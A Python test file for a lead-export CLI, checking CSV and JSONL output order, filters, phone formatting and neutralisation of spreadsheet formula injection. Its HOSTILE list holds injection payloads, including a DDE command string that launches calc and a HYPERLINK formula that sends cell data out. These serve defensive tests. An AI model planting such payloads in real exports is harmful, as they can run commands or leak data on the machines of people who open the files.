"""`leadcrawler export`: priority order, columns, filters, Excel pt-BR and injection-safe CSV."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta
from pathlib import Path

import pytest

from leadcrawler.cli import main
from leadcrawler.domain.identity import keys_for_lead
from leadcrawler.domain.items import ContactKind
from leadcrawler.domain.scoring import Rules
from leadcrawler.storage.export import COLUMNS, neutralise
from leadcrawler.storage.store import open_store
from settings.base import QUALIFY_RULES_FILE
from tests.support.factories import T0, contact, lead

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://x/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1-2",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    'Ana "Ninja", Silva\n',
]


@pytest.fixture
def base(database_url: str) -> str:
    store = open_store(database_url)
    rules = Rules.from_file(QUALIFY_RULES_FILE)
    strong = lead(
        "Zélia Alves",
        checkout="https://pay.kiwify.com.br/ZeL0001",
        price="497.00",
        contacts=[
            contact(ContactKind.EMAIL, "contato@zelia.com.br", role_address=True),
            contact(ContactKind.EMAIL, "zelia@zelia.com.br"),
            contact(ContactKind.PHONE, "+5511987654321", whatsapp_capable=True, type="mobile"),
            contact(ContactKind.SOCIAL, "https://instagram.com/zelia"),
        ],
        seen_at=T0 + timedelta(days=5),
    )
    strong.domain = "zelia.com.br"
    strong.website = "https://zelia.com.br/"
    medium = lead(
        "Bruno",
        checkout="https://pay.kiwify.com.br/BrU0001",
        contacts=[contact(ContactKind.EMAIL, "bruno@gmail.com", free_provider=True)],
    )
    weak = [
        lead(name, checkout=f"https://pay.kiwify.com.br/H{i:06d}") for i, name in enumerate(HOSTILE)
    ]
    items = [*weak, medium, strong]
    for item in items:
        item.identity_keys = keys_for_lead(item)
    store.save(items, None, rules)
    store.engine.dispose()
    return database_url


def read_csv(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the accents right
    text = raw.decode("utf-8-sig")
    assert "\r\n" in text
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))


def test_csv_is_in_priority_order_with_every_column(base: str, tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    out = tmp_path / "leads.csv"
    assert main(["export", "-o", str(out), "--database-url", base]) == 0
    assert f"Exported {len(HOSTILE) + 2} lead(s)" in capsys.readouterr().out
    rows = read_csv(out)
    assert list(rows[0]) == list(COLUMNS)
    assert [r["name"] for r in rows[:2]] == ["Zélia Alves", "Bruno"]
    zelia = rows[0]
    assert zelia["email"] == "zelia@zelia.com.br"  # the personal business address beats contato@
    assert zelia["emails"] == "zelia@zelia.com.br | contato@zelia.com.br"
    assert zelia["email_status"] == "valid"
    assert zelia["phone"] == "'+5511987654321"  # neutralised: E.164 starts with +
    assert zelia["whatsapp"] == "'+5511987654321"
    assert zelia["instagram"] == "https://instagram.com/zelia"
    assert zelia["platforms"] == "kiwify"
    assert zelia["offers"] == "Curso de Teste — R$ 497,00 — https://pay.kiwify.com.br/ZeL0001"
    assert zelia["tier"] in {"A", "B"}
    reasons = dict(part.rsplit(" ", 1) for part in zelia["score_reasons"].split(" | "))
    assert sum(int(points) for points in reasons.values()) == int(zelia["score"])
    assert zelia["first_seen"].endswith("Z")
    scores = [(r["tier"], -int(r["score"])) for r in rows]
    assert scores == sorted(scores)


def test_no_cell_can_run_a_formula(base: str, tmp_path: Path) -> None:
    out = tmp_path / "leads.csv"
    main(["export", "-o", str(out), "--database-url", base])
    names = {r["name"] for r in read_csv(out)}
    for hostile in HOSTILE:
        if hostile.startswith(("Ana",)):
            assert hostile in names  # ordinary text with quotes, commas and a newline survives
        else:
            assert "'" + hostile in names
    for row in read_csv(out):
        for cell in row.values():
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        (" =1", "' =1"),
        ("\x00x", "'\x00x"),
        ("Ana", "Ana"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_neutralise(cell: str, safe: str) -> None:
    assert neutralise(cell) == safe


def test_jsonl_keeps_arrays_and_filters_apply(base: str, tmp_path: Path) -> None:
    out = tmp_path / "leads.jsonl"
    assert (
        main(
            [
                "export",
                "-o",
                str(out),
                "--format",
                "jsonl",
                "--min-score",
                "1",
                "--database-url",
                base,
            ]
        )
        == 0
    )
    records = [json.loads(line) for line in out.read_text("utf-8").splitlines()]
    assert [r["name"] for r in records] == ["Zélia Alves", "Bruno"]
    assert records[0]["emails"] == ["zelia@zelia.com.br", "contato@zelia.com.br"]
    assert records[0]["phone"] == "+5511987654321"  # JSON is not a spreadsheet: no quote
    assert records[0]["offers"][0]["price_brl"] == "497.00"
    assert isinstance(records[0]["score_reasons"], dict)

    tier_c = tmp_path / "c.jsonl"
    main(["export", "-o", str(tier_c), "--format", "jsonl", "--tier", "c", "--database-url", base])
    assert all(json.loads(line)["tier"] == "C" for line in tier_c.read_text().splitlines())

    recent = tmp_path / "recent.jsonl"
    since = (T0 + timedelta(days=1)).date().isoformat()
    main(
        ["export", "-o", str(recent), "--format", "jsonl", "--since", since, "--database-url", base]
    )
    assert [json.loads(line)["name"] for line in recent.read_text().splitlines()] == ["Zélia Alves"]


def test_phone_format_for_spreadsheets_and_rfc4180(base: str, tmp_path: Path) -> None:
    out = tmp_path / "leads.csv"
    main(
        [
            "export",
            "-o",
            str(out),
            "--phone-format",
            "national",
            "--csv-dialect",
            "rfc4180",
            "--database-url",
            base,
        ]
    )
    text = out.read_text("utf-8")
    assert not text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows[0]["phone"] == "(11) 98765-4321"


def test_bad_arguments_are_clear(base: str, tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    with pytest.raises(SystemExit):
        main(["export", "-o", str(tmp_path / "x.csv"), "--tier", "Z", "--database-url", base])
    assert "tiers are A, B and C" in capsys.readouterr().err
    with pytest.raises(SystemExit):
        main(
            [
                "export",
                "-o",
                str(tmp_path / "x.csv"),
                "--since",
                "yesterday",
                "--database-url",
                base,
            ]
        )
    assert "expected a date" in capsys.readouterr().err
    assert not (tmp_path / "x.csv").exists()


def test_presence_summary(base: str, tmp_path: Path) -> None:
    out = tmp_path / "leads.jsonl"
    main(["export", "-o", str(out), "--format", "jsonl", "--database-url", base])
    zelia = json.loads(out.read_text("utf-8").splitlines()[0])
    assert zelia["presence"] == {
        "networks": ["instagram"],
        "own_domain": "zelia.com.br",
        "own_domain_mail": None,  # no MX check ran for her e-mails
        "platforms": 1,
        "offers": 1,
    }
    csv_out = tmp_path / "leads.csv"
    main(["export", "-o", str(csv_out), "--database-url", base])
    assert (
        read_csv(csv_out)[0]["presence"]
        == "instagram · zelia.com.br (mail unchecked) · 1 platform(s), 1 offer(s)"
    )
